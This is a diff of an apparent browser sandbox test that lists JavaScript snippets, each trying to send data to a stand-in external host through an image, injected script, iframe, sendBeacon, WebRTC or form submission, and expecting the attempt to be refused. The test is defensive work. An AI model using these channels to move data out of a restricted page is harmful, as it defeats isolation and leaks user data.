@@ -33,13 +33,15 @@ ATTEMPTS = {
         const image = new Image(); image.onload = done; image.onerror = () => fail(new Error('refused'));
         image.src = ELSEWHERE + '/leak'; })""",
     "a script from elsewhere": """await new Promise((done, fail) => {
-        const script = document.createElement('script'); script.onload = done; script.onerror = () => fail(new Error('refused'));
+        const script = document.createElement('script');
+        script.onload = done; script.onerror = () => fail(new Error('refused'));
         script.src = ELSEWHERE + '/leak'; document.head.append(script); })""",
     "a frame within": """await new Promise((done, fail) => {
         const frame = document.createElement('iframe'); frame.src = ELSEWHERE + '/leak';
         document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')));
-        frame.onload = () => done(); document.body.append(frame); setTimeout(() => fail(new Error('nothing')), 1500); })""",
-    "a beacon": "if (!navigator.sendBeacon(ELSEWHERE + '/leak', 'x')) throw new Error('refused'); throw new Error('sent?')",
+        frame.onload = () => done(); document.body.append(frame);
+        setTimeout(() => fail(new Error('nothing')), 1500); })""",
+    "a beacon": "if (!navigator.sendBeacon(ELSEWHERE + '/leak', 'x')) throw 1; throw new Error('sent?')",
     "WebRTC": "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:1'}]})",
     "a form sent away": """const form = document.createElement('form'); form.action = ELSEWHERE + '/leak';
         form.method = 'get'; document.body.append(form); form.submit(); await new Promise(r => setTimeout(r, 500));
